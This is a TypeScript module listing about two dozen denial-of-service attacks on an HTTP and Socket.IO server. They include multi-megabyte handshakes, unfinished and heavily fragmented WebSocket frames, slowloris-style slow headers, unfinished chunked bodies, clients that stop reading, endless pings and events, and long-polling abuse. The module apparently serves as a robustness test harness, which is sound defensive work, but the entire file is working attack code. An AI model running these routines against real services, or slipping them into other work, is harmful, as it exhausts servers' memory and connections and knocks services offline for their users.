/** Attacks that consume memory or time. `attacker.ts` runs each over many connections at once. */
import { connect, type Socket } from 'node:net';
import { WebSocket } from 'ws';

export interface Target {
  url: string;
  /** One token per connection, each of another user. */
  tokens: readonly string[];
}

const MIB = 1_048_576;

const tcp = ({ url }: Target, start: (socket: Socket) => void): void => {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname, () => start(socket));
  socket.on('error', () => undefined);
};

const webSocket = ({ url }: Target, onPacket: (socket: WebSocket, packet: string) => void): void => {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`);
  socket.on('error', () => undefined);
  socket.on('message', (data) => onPacket(socket, String(data)));
};

const isOpen = (packet: string) => packet.startsWith('0');
const send = (socket: WebSocket, data: string | Buffer, options = {}) =>
  socket.send(data, options, () => undefined);
const handshake = ({ tokens }: Target, index: number, more = '') => `40{"token":"${tokens[index]}"${more}}`;

/** Connects a socket, then runs the attack on it. */
const connected = (target: Target, index: number, act: (socket: WebSocket) => void): void =>
  webSocket(target, (socket, packet) => {
    if (isOpen(packet)) send(socket, handshake(target, index));
    else if (packet.startsWith('40')) act(socket);
  });

/** Stops reading from the network. */
const stall = (socket: WebSocket) => socket.pause();

const post = (target: Target, index: number, headers: string, body: string): void =>
  tcp(target, (socket) => {
    socket.write(
      `POST /v1/actions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${target.tokens[index]}\r\nContent-Type: application/json\r\n${headers}\r\n\r\n`,
    );
    socket.write(body);
  });

/** Requests many large pages over one connection at once, and reads no response. */
const requestUnread = (target: Target, index: number, count: number): void =>
  tcp(target, (socket) => {
    socket.pause();
    const path = `/v1/users/eve-${index}/feed?limit=100`;
    const head = `GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${target.tokens[index]}\r\n\r\n`;
    socket.write(head.repeat(count));
  });

/** A long-polling client that posts to its session and never polls. */
async function poll(target: Target, index: number, bodies: string[]): Promise<void> {
  const path = `${target.url}/socket.io/?EIO=4&transport=polling`;
  const opened = await (await fetch(path)).text();
  const { sid } = JSON.parse(opened.slice(1)) as { sid: string };
  for (const body of [handshake(target, index), ...bodies]) {
    await fetch(`${path}&sid=${sid}`, { method: 'POST', body });
  }
}

const poller = (target: Target, index: number, bodies: string[]): void =>
  void poll(target, index, bodies).catch(() => undefined);

const objects = (bytes: number) => `[${'{},'.repeat(bytes / 3)}{}]`;
const requestPackets = (event: string, count: number) =>
  Array.from({ length: count }, (_, id) => `42${id}["${event}",{"limit":100}]`);

/** What one connection does, by the attack's name. */
export const attacks = new Map<string, (target: Target, index: number) => void>([
  [
    'handshakes of 8 MB with a valid token',
    (target, index) =>
      webSocket(target, (socket, packet) => {
        if (isOpen(packet)) send(socket, handshake(target, index, `,"x":${objects(7.8 * MIB)}`));
      }),
  ],
  [
    'handshakes that just fit, again and again',
    (target, index) =>
      webSocket(target, (socket, packet) => {
        if (packet.startsWith('0') || packet.startsWith('44'))
          send(socket, handshake(target, index, `,"x":${objects(40_000)}`));
      }),
  ],
  [
    'anonymous frames of 8 MB',
    (target) =>
      webSocket(target, (socket, packet) => {
        if (isOpen(packet)) send(socket, `4${'x'.repeat(8 * MIB)}`);
      }),
  ],
  [
    'anonymous frames that are not finished',
    (target) =>
      webSocket(target, (socket, packet) => {
        if (!isOpen(packet)) return;
        for (let count = 0; count < 100; count += 1) send(socket, 'x'.repeat(10_000), { fin: false });
      }),
  ],
  [
    'frames of a megabyte that are not finished, after a handshake',
    (target, index) => connected(target, index, (socket) => send(socket, 'x'.repeat(MIB), { fin: false })),
  ],
  [
    'frames in thousands of fragments',
    (target, index) =>
      connected(target, index, (socket) => {
        for (let count = 0; count < 5_000; count += 1) send(socket, 'x', { fin: false });
      }),
  ],
  ['sockets that never shake hands', (target) => webSocket(target, () => undefined)],
  [
    'many namespaces',
    (target) =>
      webSocket(target, (socket, packet) => {
        if (!isOpen(packet)) return;
        for (let count = 0; count < 1_000; count += 1) send(socket, `40/space-${count},{"token":"x"}`);
      }),
  ],
  [
    'binary events whose attachments do not come',
    (target, index) =>
      connected(target, index, (socket) => {
        const placeholder = '{"_placeholder":true,"num":0}';
        send(socket, `451-["log",${placeholder},"${'x'.repeat(MIB / 2)}"]`);
      }),
  ],
  [
    'payloads of a megabyte of empty objects',
    (target, index) =>
      connected(target, index, (socket) => {
        for (let id = 0; id < 20; id += 1) send(socket, `42${id}["log",${objects(MIB - 100)}]`);
      }),
  ],
  [
    'clients that ask for large pages and do not read',
    (target, index) =>
      connected(target, index, (socket) => {
        stall(socket);
        for (const packet of requestPackets('feed:list', 10)) send(socket, packet);
      }),
  ],
  [
    'pings without end of clients that do not read',
    (target, index) =>
      connected(target, index, (socket) => {
        stall(socket);
        for (let count = 0; count < 2_000; count += 1) socket.ping('x'.repeat(125), true, () => undefined);
      }),
  ],
  [
    'packets without end',
    (target, index) =>
      connected(target, index, (socket) => {
        for (let count = 0; count < 2_000; count += 1) send(socket, '3');
      }),
  ],
  [
    'events without end',
    (target, index) =>
      connected(target, index, (socket) => {
        for (let count = 0; count < 2_000; count += 1) send(socket, '42["x"]');
      }),
  ],
  [
    'headers that come slowly',
    (target) =>
      tcp(target, (socket) => {
        socket.write('GET /healthz HTTP/1.1\r\n');
        const timer = setInterval(() => socket.write(`X-${'x'.repeat(500)}: y\r\n`), 50);
        socket.on('close', () => clearInterval(timer));
      }),
  ],
  [
    'headers without end',
    (target) => tcp(target, (socket) => socket.write(`GET / HTTP/1.1\r\nX: ${'x'.repeat(4 * MIB)}`)),
  ],
  [
    'bodies without a token',
    (target) =>
      tcp(target, (socket) => {
        socket.write('POST /v1/actions HTTP/1.1\r\nHost: x\r\nContent-Length: 8000000\r\n\r\n');
        socket.write('x'.repeat(7_000_000));
      }),
  ],
  [
    'bodies that are not finished',
    (target, index) => post(target, index, `Content-Length: ${MIB}`, 'x'.repeat(MIB - 1)),
  ],
  [
    'bodies of unknown length that are not finished',
    (target, index) => post(target, index, 'Transfer-Encoding: chunked', `fffff\r\n${'x'.repeat(0xffffe)}`),
  ],
  [
    'requests for large pages whose responses are not read',
    (target, index) => {
      for (let count = 0; count < 4; count += 1) requestUnread(target, index, 1);
    },
  ],
  [
    'requests for large pages, all at once, whose responses are not read',
    (target, index) => requestUnread(target, index, 50),
  ],
  ['long polling with large bodies', (target, index) => poller(target, index, [`4${'x'.repeat(8 * MIB)}`])],
  [
    'long polling that asks for large pages and never polls',
    (target, index) =>
      poller(
        target,
        index,
        Array.from({ length: 5 }, () => requestPackets('feed:list', 10).join('\x1e')),
      ),
  ],
]);
